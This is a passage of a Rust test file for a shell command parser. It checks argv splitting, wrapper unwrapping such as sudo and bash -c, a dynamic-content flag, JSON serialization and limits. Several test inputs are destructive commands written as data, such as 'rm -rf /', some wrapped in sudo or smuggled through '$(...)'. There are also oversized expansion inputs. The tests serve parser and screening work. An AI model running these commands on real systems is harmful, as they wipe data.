        "echo ~+99999999999999999999999",
        "echo {1..9999999999999999999999}",
        "echo $'\\U7fffffff\\xZZ\\'",
        "echo ${99999999999999999999}",
        "echo $((99999999999999999999999))",
    ] {
        let v = parse(line);
        assert!(!v.commands.is_empty() || v.error.is_some(), "{line:?}");
    }
}

// ---------------------------------------------------------------------------
// 8. parse_argv and serialization
// ---------------------------------------------------------------------------

fn argv(words: &[&str]) -> Vec<String> {
    words.iter().map(|w| (*w).to_owned()).collect()
}

#[test]
fn parse_argv_is_exec_style() {
    let l = Limits::default();
    let v = parse_argv(&argv(&["rm", "-rf", "/"]), &l);
    assert_eq!(v.commands[0].argv, ["rm", "-r", "-f", "/"]);
    // no shell: quotes and $ are literal
    let v = parse_argv(&argv(&["echo", "$(rm -rf /)", "'x'"]), &l);
    assert_eq!(programs(&v), ["echo"]);
    assert!(!v.dynamic);
    assert_eq!(v.commands[0].argv, ["echo", "$(rm -rf /)", "'x'"]);
    // but wrappers and shells are unwrapped
    let v = parse_argv(&argv(&["sudo", "bash", "-c", "rm -rf /"]), &l);
    assert_eq!(programs(&v), ["sudo", "bash", "rm"]);
    assert_eq!(v.commands[2].via, ["sudo", "bash -c"]);
    let v = parse_argv(&argv(&["bash", "-c", "$X"]), &l);
    assert!(v.dynamic);
    let v = parse_argv(&[], &l);
    assert!(v.error.is_some() && v.dynamic);
}

#[test]
fn json_contract() {
    let v = parse("rm -rf /");
    let json = serde_json::to_value(&v).unwrap();
    assert_eq!(json["commands"][0]["program"], "rm");
    assert_eq!(json["commands"][0]["argv"], serde_json::json!(["rm", "-r", "-f", "/"]));
    assert_eq!(json["commands"][0]["flags"], serde_json::json!(["r", "f"]));
    assert_eq!(json["dynamic"], false);
    assert!(json["error"].is_null());
    let back: CommandLineView = serde_json::from_value(json).unwrap();
    assert_eq!(back, v);
    let v = parse("python3 -c 'x'");
    let json = serde_json::to_value(&v).unwrap();
    assert_eq!(json["commands"][0]["inline_code"]["language"], "python");
    assert_eq!(json["commands"][0]["inline_code"]["code"], "x");
}

#[test]
fn limits_default_is_sane() {
    let l = Limits::default();
    assert!(l.max_line_bytes >= 64 * 1024);
    assert!(l.max_nesting_depth >= 32);
    assert!(l.max_recursion_depth >= 4);
    assert!(l.max_brace_results >= 64);
    assert!(l.max_commands >= 64);
}
